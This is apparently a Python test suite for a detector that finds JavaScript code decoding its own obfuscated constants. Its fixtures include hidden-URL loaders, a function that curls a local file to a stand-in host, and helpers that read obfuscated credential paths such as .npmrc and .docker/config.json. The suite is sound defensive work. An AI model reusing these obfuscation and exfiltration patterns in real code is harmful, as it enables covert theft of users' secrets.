"""Decoders found by what they do wherever they live (red team 8 / 7 classes, issue 7):

* a function or method without parameters that decodes its own constants (a class method
  ``source()`` building a URL in a loop, a helper, an arrow kept in a const);
* a callback inside a bigger function, closed over that function's constants
  (``ENC.match(/../g).map((b, i) => …).join("")`` next to a file read);
* the decoding part of a helper that also does what no isolate can (``locate(codes)`` joins
  the decoded name to ``os.homedir()``), evaluated with each call's arguments, constants or the
  elements of the constant list a loop variable or callback element ranges over;
* minified code that reuses one name for a list and the callback parameter mapped over it
  (``[...e].map((e) => …)``): the outer name stays free;
* a Set or Map built of decoded strings is reported by its elements.
"""

from __future__ import annotations

from collections.abc import Callable

from agentxray.model import Finding, Notice

RunDetectors = Callable[..., tuple[list[Finding], list[Notice]]]


def _hidden(findings: list[Finding]) -> list[Finding]:
    return [f for f in findings if f.category == "obfuscated-data"]


def _xor_hex(text: str, key: str) -> str:
    return "".join(f"{ord(c) ^ ord(key[i % len(key)]):02x}" for i, c in enumerate(text))


def _codes(text: str) -> list[int]:
    return [ord(c) + i * 3 + 5 for i, c in enumerate(text)]


# --- a function or method without parameters that decodes its own constants -----------------


def test_argument_less_class_method_decoding_in_a_loop(run_all: RunDetectors) -> None:
    # js-obfuscated-data: the method reads no `this`; its constructor takes options
    enc = _xor_hex("https://patches.quillfarm.dev/hot.js", "pw9$")
    src = (
        "class Loader {\n"
        "  constructor(opts) { this.http = opts.http; }\n"
        "  source() {\n"  # line 3
        f'    const k = "pw9$", e = "{enc}";\n'
        '    let r = "";\n'
        "    for (let s = 0; s < e.length; s += 2)\n"
        "      r += String.fromCharCode(parseInt(e.substr(s, 2), 16) ^ k.charCodeAt(s / 2 % 4));\n"
        "    return r;\n"
        "  }\n"
        "  async load() { return this.http.get(this.source()); }\n"
        "}\n"
        "module.exports = { Loader };\n"
    )
    (finding,) = _hidden(run_all(src.encode())[0])
    assert finding.rule == "js-obfuscated-data"
    assert finding.location.line == 3
    assert finding.decoded == ("https://patches.quillfarm.dev/hot.js",)


def test_argument_less_arrow_helper_minified(run_all: RunDetectors) -> None:
    # js-obfuscated-data: the same decoder as an arrow kept in a const, minified
    enc = _xor_hex("wss://relay.quillfarm.dev/ctl", "k8")
    src = (
        "const o=require('os');"
        f'const t=()=>{{const n="k8",e="{enc}";let r="";'
        "for(let s=0;s<e.length;s+=2)r+=String.fromCharCode(parseInt(e.substr(s,2),16)"
        "^n.charCodeAt(s/2%2));return r};"
        "module.exports={u:()=>t()+'?h='+o.hostname()};\n"
    )
    (finding,) = _hidden(run_all(src.encode())[0])
    assert finding.rule == "js-obfuscated-data"
    assert finding.location.line == 1
    assert finding.decoded == ("wss://relay.quillfarm.dev/ctl",)


def test_argument_less_method_reading_this_or_random_is_not_evaluated(
    run_all: RunDetectors,
) -> None:
    # benign look-alikes: a method decoding its instance's data (depends on the caller), and a
    # helper building a random identifier from an alphabet
    src = (
        "class Box {\n"
        "  constructor(data) { this.data = data; }\n"
        "  text() { return Buffer.from(this.data, 'base64').toString('utf8'); }\n"
        "}\n"
        "function requestId() {\n"
        "  const alphabet = 'abcdefghijklmnopqrstuvwxyz0123456789';\n"
        "  let out = '';\n"
        "  for (let i = 0; i < 12; i++)\n"
        "    out += String.fromCharCode(alphabet.charCodeAt(Math.floor(Math.random() * 36)));\n"
        "  return out;\n"
        "}\n"
        "module.exports = { Box, requestId };\n"
    )
    assert _hidden(run_all(src.encode())[0]) == []


# --- a callback closed over the constants of a bigger function -------------------------------


def test_callback_over_local_constants_next_to_a_file_read(run_all: RunDetectors) -> None:
    # js-obfuscated-data: the function also reads a file and runs a command (not closed), the
    # decoding expression is
    enc = _xor_hex("https://upload.quillfarm.cloud/cfg", "k8s!")
    src = (
        "const fs = require('fs');\n"
        "const { execFile } = require('child_process');\n"
        "async function backup(file) {\n"
        "  const text = await fs.promises.readFile(file, 'utf8');\n"
        "  const key = 'k8s!';\n"
        f"  const enc = '{enc}';\n"
        "  const target = enc.match(/../g).map((b, i) =>\n"  # line 7
        "    String.fromCharCode(parseInt(b, 16) ^ key.charCodeAt(i % 4))).join('');\n"
        "  execFile('curl', ['--data-binary', '@' + file, target], () => text.length);\n"
        "}\n"
        "module.exports = { backup };\n"
    )
    (finding,) = _hidden(run_all(src.encode())[0])
    assert finding.rule == "js-obfuscated-data"
    assert finding.location.line == 7
    assert finding.decoded == ("https://upload.quillfarm.cloud/cfg",)


def test_callback_with_array_from_in_a_typescript_method(run_all: RunDetectors) -> None:
    # js-obfuscated-data: `Array.from(raw, (b, i) => …)` in a private TS method
    key = [0x21, 0x7E, 0x4C]
    raw = bytes(ord(c) ^ key[i % 3] for i, c in enumerate("https://spans.quillfarm.io/v1"))
    import base64

    b64 = base64.b64encode(raw).decode()
    src = (
        "export class Sampler {\n"
        "  constructor(private readonly id: string) {}\n"
        "  private target(): string {\n"
        "    const k = [0x21, 0x7e, 0x4c];\n"
        f'    const raw = Buffer.from("{b64}", "base64");\n'
        '    return Array.from(raw, (b, i) => String.fromCharCode(b ^ k[i % k.length])).join("");\n'
        "  }\n"
        "  url(): string { return this.target() + '/' + this.id; }\n"
        "}\n"
    )
    found = _hidden(run_all(src.encode(), "fixture.ts")[0])
    assert [f.rule for f in found] == ["js-obfuscated-data"]
    assert found[0].location.line in (3, 6)
    assert found[0].decoded == ("https://spans.quillfarm.io/v1",)


def test_callback_over_runtime_data_is_not_decoded(run_all: RunDetectors) -> None:
    # benign look-alike: the same callback shape over a file's content and a parameter
    src = (
        "const fs = require('fs');\n"
        "function unmask(file, key) {\n"
        "  const enc = fs.readFileSync(file, 'utf8');\n"
        "  return enc.match(/../g).map((b, i) =>\n"
        "    String.fromCharCode(parseInt(b, 16) ^ key.charCodeAt(i % 4))).join('');\n"
        "}\n"
        "module.exports = { unmask };\n"
    )
    assert _hidden(run_all(src.encode())[0]) == []


# --- the decoding part of an impure helper, per call ----------------------------------------


def test_helper_decoding_part_per_element_of_a_method_local_list(run_all: RunDetectors) -> None:
    # js-obfuscated-data: locate() joins the decoded name to the home directory; it is called
    # with the loop variable over a method-local list of char-code lists
    a, b = _codes(".netrc-backup"), _codes(".config/quill/auth.json")
    src = (
        "const fs = require('fs');\n"
        "const os = require('os');\n"
        "const path = require('path');\n"
        "function locate(codes) {\n"
        "  const name = codes.map((c, i) => String.fromCharCode(c - i * 3 - 5)).join('');\n"
        "  return path.join(os.homedir(), name);\n"
        "}\n"
        "class Material {\n"
        "  load() {\n"
        f"    const targets = [{a}, {b}];\n"
        "    const out = [];\n"
        "    for (const t of targets) out.push(fs.readFileSync(locate(t), 'utf8'));\n"
        "    return out;\n"
        "  }\n"
        "}\n"
        "module.exports = { Material };\n"
    )
    (finding,) = _hidden(run_all(src.encode())[0])
    assert finding.rule == "js-obfuscated-data"
    assert finding.location.line == 4  # the helper that decodes
    assert finding.decoded == (".netrc-backup", ".config/quill/auth.json")


def test_helper_decoding_part_per_call_minified(run_all: RunDetectors) -> None:
    # js-obfuscated-data: the helper's calls take constants and a `.map` element, minified
    a, b = _codes(".docker/config.json"), _codes(".npmrc")
    src = (
        "const p=require('path'),o=require('os');"
        "function l(e){const n=e.map((e,t)=>String.fromCharCode(e-t*3-5)).join('');"
        "return p.join(o.homedir(),n)}"
        f"const r=l({a});"
        f"module.exports={{r,all:()=>[{b}].map(e=>l(e))}};\n"
    )
    (finding,) = _hidden(run_all(src.encode())[0])
    assert finding.rule == "js-obfuscated-data"
    assert finding.location.line == 1
    assert set(finding.decoded) == {".docker/config.json", ".npmrc"}


def test_helper_called_with_runtime_values_is_not_decoded(run_all: RunDetectors) -> None:
    # benign look-alike: the same helper called with a parameter and with data read at run time
    src = (
        "const fs = require('fs');\n"
        "const os = require('os');\n"
        "const path = require('path');\n"
        "function locate(codes) {\n"
        "  const name = codes.map((c, i) => String.fromCharCode(c - i * 3 - 5)).join('');\n"
        "  return path.join(os.homedir(), name);\n"
        "}\n"
        "function open(list) {\n"
        "  const saved = JSON.parse(fs.readFileSync('state.json', 'utf8'));\n"
        "  return [locate(saved.codes), ...list.map((c) => locate(c))];\n"
        "}\n"
        "module.exports = { open };\n"
    )
    assert _hidden(run_all(src.encode())[0]) == []


# --- minified name reuse, and Sets of decoded strings ---------------------------------------


def test_class_decoder_with_constructor_table_into_a_set(run_all: RunDetectors) -> None:
    # js-obfuscated-data: a custom base64 alphabet mapped in the constructor; `[...e].map((e) =>
    # …)` reuses `e`; the decoded zones are kept in a Set
    import base64

    std = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    alpha = "QWERTYUIOPASDFGHJKLZXCVBNMqwertyuiopasdfghjklzxcvbnm9876543210-_"
    table = str.maketrans(std, alpha)

    def enc(s: str) -> str:
        return base64.b64encode(s.encode()).decode().rstrip("=").translate(table)

    src = (
        f'"use strict";const A="{alpha}",S="{std}";'
        "class C{constructor(e,o){this.m=new Map([...e].map((e,t)=>[e,o[t]]))}"
        'decode(e){const o=[...e].map(e=>this.m.get(e)||e).join("");'
        'return Buffer.from(o,"base64").toString("utf8")}}'
        f'const c=new C(A,S),z=new Set(["{enc("Europe/Vilnius")}","{enc("Asia/Dushanbe")}"]'
        ".map(e=>c.decode(e)));"
        "module.exports={listed:e=>z.has(e)};\n"
    )
    (finding,) = _hidden(run_all(src.encode())[0])
    assert finding.rule == "js-obfuscated-data"
    assert finding.location.line == 1
    assert finding.decoded == ("Europe/Vilnius", "Asia/Dushanbe")


def test_set_of_plain_words_is_not_hidden(run_all: RunDetectors) -> None:
    # benign look-alike: a Set of words mapped through a decode that reveals nothing new
    src = (
        "const seen = new Set(['release-notes', 'changelog'].map((w) =>\n"
        "  Buffer.from(Buffer.from(w).toString('base64'), 'base64').toString()));\n"
        "module.exports = { seen };\n"
    )
    assert _hidden(run_all(src.encode())[0]) == []


# --- a method that decodes its arguments, called on any receiver -----------------------------


def _b64(text: str) -> str:
    import base64

    return base64.b64encode(text.encode()).decode()


def test_method_decoder_called_on_this_and_over_a_list(run_all: RunDetectors) -> None:
    # js-obfuscated-data: `dec(s)` reads no `this`; a getter and a method call it through `this`
    src = (
        "class Cfg {\n"
        "  constructor(opts) { this.opts = opts; }\n"
        '  dec(s) { return Buffer.from(s, "base64").toString("utf8"); }\n'
        f'  get url() {{ return this.dec("{_b64("https://ctl.quillfarm.dev/v2/flags")}"); }}\n'
        f'  zones() {{ return ["{_b64("Europe/Minsk")}", "{_b64("Asia/Tehran")}"]'
        ".map((e) => this.dec(e)); }\n"
        "}\n"
        "module.exports = { Cfg };\n"
    )
    (finding,) = _hidden(run_all(src.encode())[0])
    assert finding.rule == "js-obfuscated-data"
    assert finding.location.line == 3  # one finding at the decoder, with what its calls decode
    assert finding.decoded == ("https://ctl.quillfarm.dev/v2/flags", "Europe/Minsk", "Asia/Tehran")


def test_object_literal_method_decoder_minified(run_all: RunDetectors) -> None:
    # js-obfuscated-data: an object literal's method called on the object, minified
    src = (
        'const h={d(e){return Buffer.from(e,"base64").toString()}};'
        f'module.exports={{u:()=>h.d("{_b64("wss://relay.quillfarm.io/ctl")}")}};\n'
    )
    (finding,) = _hidden(run_all(src.encode())[0])
    assert finding.rule == "js-obfuscated-data"
    assert finding.location.line == 1
    assert finding.decoded == ("wss://relay.quillfarm.io/ctl",)


def test_method_reading_this_or_named_twice_is_not_evaluated(run_all: RunDetectors) -> None:
    # benign look-alikes: a method whose encoding comes from the instance, two classes
    # defining `dec` differently, and a call with data from the caller
    src = (
        "class A {\n"
        "  constructor(enc) { this.enc = enc; }\n"
        "  text(s) { return Buffer.from(s, this.enc).toString(); }\n"
        f'  get one() {{ return this.text("{_b64("https://a.quillfarm.dev/x")}"); }}\n'
        "}\n"
        "class B { dec(s) { return Buffer.from(s, 'base64').toString(); } }\n"
        "class C { dec(s) { return Buffer.from(s, 'hex').toString(); } }\n"
        f'const b = new B(); const x = b.dec("{_b64("https://b.quillfarm.dev/y")}");\n'
        "function show(input) { return new B().text(input); }\n"
        "module.exports = { A, C, x, show };\n"
    )
    assert _hidden(run_all(src.encode())[0]) == []
